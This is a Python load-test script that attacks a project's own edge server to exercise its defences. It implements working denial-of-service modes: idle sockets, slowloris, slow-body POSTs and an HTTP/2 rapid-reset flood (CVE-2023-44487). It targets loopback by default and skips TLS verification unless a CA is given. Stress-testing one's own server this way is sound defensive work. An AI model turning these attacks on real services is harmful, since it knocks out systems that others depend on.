#!/usr/bin/env python3
"""Connection-level attackers for the edge's attack scenario (issue 14; loadtests/attack/run.sh).

Modes, any of them at once, each keeping its pressure constant by reconnecting whenever the edge
closes one of its connections:

  --idle N          TCP sockets that connect and never send a byte (not even a ClientHello)
  --slowloris N     TLS (ALPN http/1.1) clients sending a request head one byte every --drip seconds
                    (every other one after a complete GET /healthz: its next request's head)
  --slow-body N     TLS (ALPN http/1.1) clients sending a complete POST head, then its body one
                    byte every --drip seconds
  --rapid-reset C   TLS (ALPN h2) connections each looping HEADERS + RST_STREAM as fast as the
                    socket takes them (CVE-2023-44487), reconnecting after GOAWAY

Attackers bind source addresses 127.0.1.1 .. 127.0.1.<--sources> round-robin, so that the edge's
per-client connection cap is not the only defence exercised. HTTP/2 frames are hand-encoded (a
literal HPACK block; no dependency beyond the standard library).

At the end (--duration elapsed, or SIGTERM/SIGINT) it prints per mode: connections opened, closed
by the server, failed to connect, and how long each lived (p50, max); --out writes the same as JSON.
Python 3.11, stdlib only. Raise `ulimit -n` first (run.sh does): every attacker is a socket.
"""
from __future__ import annotations

import argparse
import asyncio
import json
import signal
import ssl
import struct
import sys
import time
from dataclasses import dataclass, field

# --- HTTP/2 framing (RFC 9113), only what a rapid-reset client needs --------------------------
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_literal(name_index: int, value: bytes) -> bytes:
    """Literal header field without indexing, name from the static table (RFC 7541 6.2.2)."""
    assert name_index < 15 and len(value) < 127
    return bytes([name_index, len(value)]) + value


def request_block(authority: bytes, path: bytes) -> bytes:
    # :method POST (static 3), :scheme https (static 7), :path and :authority as literals.
    return b"\x83\x87" + hpack_literal(4, path) + hpack_literal(1, authority)


# --- statistics -------------------------------------------------------------------------------
@dataclass
class ModeStats:
    opened: int = 0            # connections established (TCP, plus TLS where the mode speaks it)
    closed_by_server: int = 0  # EOF or reset from the edge
    connect_failures: int = 0  # refused, timed out, or TLS handshake failed
    lifetimes: list[float] = field(default_factory=list)  # seconds, of connections the server closed
    open_now: int = 0
    extra: dict[str, int] = field(default_factory=dict)

    def bump(self, key: str, by: int = 1) -> None:
        self.extra[key] = self.extra.get(key, 0) + by

    def summary(self) -> dict:
        lifetimes = sorted(self.lifetimes)

        def pct(p: float) -> float | None:
            return round(lifetimes[min(len(lifetimes) - 1, int(p * len(lifetimes)))], 3) if lifetimes else None

        return {
            "opened": self.opened, "closed_by_server": self.closed_by_server, "connect_failures": self.connect_failures,
            "open_at_end": self.open_now, "lifetime_p50_s": pct(0.5), "lifetime_max_s": round(lifetimes[-1], 3) if lifetimes else None,
            **self.extra,
        }


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.stats: dict[str, ModeStats] = {}
        self.stopping = asyncio.Event()
        self.sources = [f"127.0.1.{i}" for i in range(1, args.sources + 1)]
        self.next_source = 0
        self.authority = f"{args.host}:{args.port}".encode()
        self.contexts: dict[str, ssl.SSLContext] = {}

    def source(self) -> str:
        self.next_source = (self.next_source + 1) % len(self.sources)
        return self.sources[self.next_source]

    def tls(self, alpn: str) -> ssl.SSLContext:
        """One context per protocol, shared: making one loads a CA bundle, synchronously (tens of
        milliseconds each, which stalled every attacker when each connection made its own)."""
        if alpn not in self.contexts:
            if self.args.ca:
                context = ssl.create_default_context(cafile=self.args.ca)
            else:
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols([alpn])
            self.contexts[alpn] = context
        return self.contexts[alpn]

    async def connect(self, mode: str, context: ssl.SSLContext | None):
        """One connection from the next source address; None (counted) when it fails."""
        stats = self.stats[mode]
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(self.args.host, self.args.port, ssl=context, local_addr=(self.source(), 0),
                                        server_hostname=self.args.server_name if context else None,
                                        ssl_handshake_timeout=30 if context else None),
                timeout=60)
        except (OSError, asyncio.TimeoutError, ssl.SSLError) as error:
            stats.connect_failures += 1
            stats.bump(f"connect_failed_{type(error).__name__}")
            await self.pause(0.5)  # the edge is full or refusing: do not spin
            return None
        stats.opened += 1
        stats.open_now += 1
        return reader, writer

    def closed(self, mode: str, writer: asyncio.StreamWriter, opened_at: float, by_server: bool) -> None:
        stats = self.stats[mode]
        stats.open_now -= 1
        if by_server:
            stats.closed_by_server += 1
            stats.lifetimes.append(time.monotonic() - opened_at)
        writer.transport.abort()

    async def pause(self, seconds: float) -> None:
        try:
            await asyncio.wait_for(self.stopping.wait(), seconds)
        except asyncio.TimeoutError:
            pass

    # --- modes --------------------------------------------------------------------------------
    async def idle(self, index: int) -> None:
        """Connects and waits for the server to give up on it (tls_handshake_timeout)."""
        await self.pause(index * self.args.ramp / max(1, self.args.idle))
        while not self.stopping.is_set():
            connection = await self.connect("idle", None)
            if connection is None:
                continue
            reader, writer = connection
            opened_at = time.monotonic()
            by_server = await self.until_closed(reader)
            self.closed("idle", writer, opened_at, by_server)

    async def until_closed(self, reader: asyncio.StreamReader, timeout: float | None = None) -> bool:
        """Reads (and drops) until EOF: True when the server closed it, False when we are stopping or timed out."""
        stop = asyncio.ensure_future(self.stopping.wait())
        try:
            deadline = None if timeout is None else time.monotonic() + timeout
            while True:
                remaining = None if deadline is None else max(0.0, deadline - time.monotonic())
                read = asyncio.ensure_future(reader.read(65536))
                done, _ = await asyncio.wait({read, stop}, timeout=remaining, return_when=asyncio.FIRST_COMPLETED)
                if read not in done:
                    read.cancel()
                    return False
                try:
                    if not read.result():
                        return True
                except (OSError, ssl.SSLError):
                    return True
        finally:
            stop.cancel()

    async def drip(self, mode: str, index: int, head: bytes, body_length: int) -> None:
        """Slowloris (head one byte at a time) or slow body (head at once, body one byte at a time)."""
        await self.pause(index * self.args.ramp / max(1, getattr(self.args, mode.replace("-", "_"))))
        context = self.tls("http/1.1")
        while not self.stopping.is_set():
            connection = await self.connect(mode, context)
            if connection is None:
                continue
            reader, writer = connection
            opened_at = time.monotonic()
            if body_length:
                writer.write(head)
                to_drip = b"{" + b" " * (body_length - 1)
            else:
                to_drip = head
            by_server = False
            try:
                if mode == "slowloris" and index % 2:
                    # Every other slowloris connection first makes one complete request, so that
                    # its dripped head is a keep-alive connection's next request (request_head_timeout),
                    # not its first (first_request_timeout).
                    writer.write(f"GET /healthz HTTP/1.1\r\nHost: {self.args.host}\r\n\r\n".encode())
                    if not await asyncio.wait_for(reader.read(65536), timeout=10):
                        raise ConnectionResetError
                    self.stats[mode].bump("first_requests_answered")
                for position in range(len(to_drip)):
                    writer.write(to_drip[position:position + 1])
                    await writer.drain()
                    self.stats[mode].bump("bytes_dripped")
                    if await self.until_closed(reader, timeout=self.args.drip):
                        by_server = True
                        break
                    if self.stopping.is_set():
                        break
                else:
                    self.stats[mode].bump("requests_completed")  # the edge waited for all of it
                    by_server = await self.until_closed(reader, timeout=30)
            except (OSError, ssl.SSLError, asyncio.TimeoutError):
                by_server = True
            self.closed(mode, writer, opened_at, by_server)

    async def rapid_reset(self, index: int) -> None:
        """HEADERS then RST_STREAM(CANCEL) on stream after stream until the edge sends GOAWAY."""
        await self.pause(index * 0.2)
        context = self.tls("h2")
        stats = self.stats["rapid-reset"]
        block = request_block(self.authority, self.args.path.encode())
        while not self.stopping.is_set():
            connection = await self.connect("rapid-reset", context)
            if connection is None:
                continue
            reader, writer = connection
            opened_at = time.monotonic()
            if writer.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
                stats.bump("no_h2")
                self.closed("rapid-reset", writer, opened_at, by_server=False)
                await self.pause(1)
                continue
            goaway = asyncio.Event()
            frames_in = asyncio.ensure_future(self.read_h2(reader, writer, goaway))
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            try:
                while not goaway.is_set() and not frames_in.done() and not self.stopping.is_set():
                    batch = bytearray()
                    for _ in range(self.args.batch):
                        batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
                        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                        stream += 2
                    writer.write(batch)
                    await writer.drain()
                    stats.bump("streams_reset", self.args.batch)
                    await asyncio.sleep(0)  # let the frame reader run
            except (OSError, ssl.SSLError):
                pass
            by_server = goaway.is_set() or frames_in.done()
            if by_server:
                await asyncio.wait({frames_in}, timeout=2)  # the EOF after GOAWAY
            frames_in.cancel()
            self.closed("rapid-reset", writer, opened_at, by_server and not self.stopping.is_set())

    async def read_h2(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, goaway: asyncio.Event) -> None:
        stats = self.stats["rapid-reset"]
        try:
            while True:
                header = await reader.readexactly(9)
                length = int.from_bytes(header[:3], "big")
                kind, flags = header[3], header[4]
                payload = await reader.readexactly(length) if length else b""
                if kind == SETTINGS and not flags & ACK:
                    writer.write(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    writer.write(frame(PING, ACK, 0, payload))
                elif kind == HEADERS:
                    stats.bump("responses_started")
                elif kind == GOAWAY:
                    code = int.from_bytes(payload[4:8], "big")
                    stats.bump("goaway_enhance_your_calm" if code == 0xB else f"goaway_code_{code}")
                    goaway.set()
        except (asyncio.IncompleteReadError, OSError, ssl.SSLError):
            return

    # --- run ----------------------------------------------------------------------------------
    async def run(self) -> dict:
        args = self.args
        loop = asyncio.get_running_loop()
        for signum in (signal.SIGINT, signal.SIGTERM):
            loop.add_signal_handler(signum, self.stopping.set)
        head = (f"POST {args.path} HTTP/1.1\r\nHost: {args.host}\r\nUser-Agent: slowloris\r\n"
                f"Content-Type: application/json\r\nX-Padding: {'a' * 200}\r\n\r\n").encode()
        body_head = (f"POST {args.path} HTTP/1.1\r\nHost: {args.host}\r\nContent-Type: application/json\r\n"
                     f"Content-Length: {args.body_length}\r\n\r\n").encode()
        tasks = []
        for mode, count, make in (
            ("idle", args.idle, lambda i: self.idle(i)),
            ("slowloris", args.slowloris, lambda i: self.drip("slowloris", i, head, 0)),
            ("slow-body", args.slow_body, lambda i: self.drip("slow-body", i, body_head, args.body_length)),
            ("rapid-reset", args.rapid_reset, lambda i: self.rapid_reset(i)),
        ):
            if count:
                self.stats[mode] = ModeStats()
                tasks += [asyncio.ensure_future(make(i)) for i in range(count)]
        started = time.monotonic()
        reporter = asyncio.ensure_future(self.report(started))
        await self.pause(args.duration if args.duration else 10**9)
        self.stopping.set()
        if tasks:
            await asyncio.wait(tasks, timeout=10)
        for task in tasks:
            task.cancel()
        reporter.cancel()
        return {"seconds": round(time.monotonic() - started, 1), "sources": len(self.sources),
                "modes": {mode: stats.summary() for mode, stats in self.stats.items()}}

    async def report(self, started: float) -> None:
        while True:
            await asyncio.sleep(self.args.report_every)
            line = "  ".join(f"{mode}: open {s.open_now} opened {s.opened} cut {s.closed_by_server} failed {s.connect_failures}"
                             + (f" resets {s.extra.get('streams_reset', 0)}" if mode == "rapid-reset" else "")
                             for mode, s in self.stats.items())
            print(f"[attack {time.monotonic() - started:5.0f}s] {line}", file=sys.stderr, flush=True)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8443)
    parser.add_argument("--server-name", default="localhost", help="TLS SNI")
    parser.add_argument("--ca", help="CA to verify the edge with (default: no verification)")
    parser.add_argument("--idle", type=int, default=0, metavar="N")
    parser.add_argument("--slowloris", type=int, default=0, metavar="N")
    parser.add_argument("--slow-body", type=int, default=0, metavar="N")
    parser.add_argument("--rapid-reset", type=int, default=0, metavar="C")
    parser.add_argument("--drip", type=float, default=2.0, help="seconds between dripped bytes (default 2)")
    parser.add_argument("--body-length", type=int, default=4096, help="slow-body Content-Length (default 4096)")
    parser.add_argument("--path", default="/v1/webhooks/loadtest/stripe", help="request path of every mode")
    parser.add_argument("--batch", type=int, default=20, help="HEADERS+RST_STREAM pairs per write (default 20)")
    parser.add_argument("--sources", type=int, default=50, help="source addresses 127.0.1.1..N (default 50)")
    parser.add_argument("--ramp", type=float, default=5.0, help="seconds over which each mode's connections start")
    parser.add_argument("--duration", type=float, default=0, help="seconds; 0: until SIGTERM/SIGINT")
    parser.add_argument("--report-every", type=float, default=5.0)
    parser.add_argument("--out", help="write the summary here as JSON")
    args = parser.parse_args()
    summary = asyncio.run(Attack(args).run())
    text = json.dumps(summary, indent=2)
    print(text)
    if args.out:
        with open(args.out, "w") as out:
            out.write(text + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
